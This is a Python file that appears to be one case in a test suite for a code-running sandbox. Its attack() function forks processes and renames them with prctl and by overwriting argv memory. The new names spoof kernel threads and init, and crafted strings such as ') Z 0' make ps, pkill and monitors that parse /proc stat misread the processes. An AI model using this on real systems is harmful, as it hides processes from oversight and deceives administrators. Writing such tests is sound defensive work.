"""Take the names of the server's own processes.

Technique: a name is what PR_SET_NAME, argv[0] and the memory of the command line say, with line breaks and parentheses
    in it if one likes; `ps`, `pkill` and watchers that read /proc/<pid>/stat or status fall for it. The program becomes
    "launcher", its child the init, another a kernel thread; a name with ") Z 0" in it says that it is dead and has used
    no time.
Success: from outside: another end, no time, or a result that does not come.
Stopped by: pid_namespace
Held when: exit 2; status error; cpu_at_least 180 ms; wall_at_least 100 ms; answered_within 5 s
"""
import time

PR_SET_NAME = 15


def rename(name, line):
    syscall("prctl", PR_SET_NAME, name, 0, 0, 0)
    with open("/proc/self/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    begin, end = int(fields[45]), int(fields[46])
    if end > begin:
        ctypes.memmove(begin, line[: end - begin - 1].ljust(end - begin - 1, b"\0"), end - begin - 1)


def attack():
    sys.stdout.flush()
    for name, line in ((b") Z 0 0 0 0 (", b"[kthreadd]"), (b"exe\nState:\tX", b"/proc/self/exe\0launcher"), (b"coderunner", b"serve")):
        if os.fork() == 0:
            rename(name, line)
            time.sleep(20)
    rename(b"launcher) Z 0 0", b"launcher\0init")
    while time.process_time() < 0.2:
        pass
    os._exit(2)


def twin():
    """Workers name themselves, and child processes take any argv[0]."""
    syscall("prctl", PR_SET_NAME, b"worker-1", 0, 0, 0)
    with open("/proc/self/comm") as name:
        assert name.read() == "worker-1\n"
    import subprocess
    assert subprocess.run(["a name (of mine)", "-c", "echo $0"], executable="/bin/sh", stdout=subprocess.PIPE).stdout.strip()
